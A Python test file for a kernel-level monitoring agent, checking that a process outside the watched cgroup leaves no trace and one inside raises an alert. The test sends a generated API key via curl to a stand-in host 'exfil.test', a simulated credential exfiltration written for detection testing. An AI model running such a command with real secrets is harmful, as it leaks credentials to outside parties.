"""--cgroup scoping: what runs outside the watched subtree never reaches user space.

The scope is checked in the kernel before any byte is copied, so a process outside it leaves no
trace record at all, not merely no alert.
"""

import time

from kharness.servers import sha256


def test_process_outside_the_cgroup_is_invisible_and_inside_alerts(
        agent, clients, cgroup, https_server, curl, registry, scratch):
    key = registry.new("openai")
    headers = scratch / "headers"
    headers.write_text(f"Authorization: Bearer {key}\n")
    argv = curl.https(https_server, "exfil.test", "/v1/chat") + ["-H", f"@{headers}", "-d", "{}"]

    outside = clients.run(argv, in_cgroup=False)
    [req] = https_server.wait_for_requests(1)
    assert req.header_digests.get("authorization") == sha256(f"Bearer {key}")
    time.sleep(3.0)
    assert agent.alerts() == [], f"alert for a process outside --cgroup\n{agent.diagnostics()}"
    leaked = [e for e in agent.trace_events()
              if outside.pid in (e.get("pid"), e.get("tid"), e.get("ppid"))]
    assert leaked == [], f"{len(leaked)} kernel records of pid {outside.pid} reached user space"

    # Control: the same request from inside the cgroup is seen, so the silence above is scope.
    inside = clients.run(argv)
    alerts = agent.wait_for_alerts(lambda a: a.get("process", {}).get("pid") == inside.pid,
                                   timeout=5.0)
    assert alerts, f"control request inside the cgroup raised no alert\n{agent.diagnostics()}"
    assert all(e.get("pid") != outside.pid for e in agent.trace_events())
